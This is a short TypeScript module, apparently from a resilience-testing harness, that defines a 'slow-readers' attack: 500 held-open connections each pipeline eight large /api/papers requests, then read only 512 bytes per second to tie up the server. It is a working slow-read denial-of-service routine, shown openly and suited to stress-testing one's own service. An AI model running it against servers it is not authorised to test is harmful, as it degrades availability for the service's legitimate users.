import type { Attack } from '../attack.ts'
import { get, persist, persistEach } from '../connection.ts'

const CONNECTIONS = 500
const REQUESTS = 8
const READ_EVERY_MS = 1_000
const BYTES_READ = 512

export const slowReaders: Attack = {
  name: 'slow-readers',
  summary: '500 connections that take half a kilobyte a second of what they asked for',
  run: async (target) => {
    const counts = {}
    await persistEach(CONNECTIONS, (index) =>
      persist(target, counts, (socket) => {
        socket.pause()
        socket.write(
          Array.from({ length: REQUESTS }, (_, number) => get(`/api/papers?limit=500&${index}.${number}`)).join(''),
        )
        const timer = setInterval(() => socket.read(BYTES_READ), READ_EVERY_MS)
        socket.once('close', () => clearInterval(timer))
      }),
    )
    return counts
  },
}
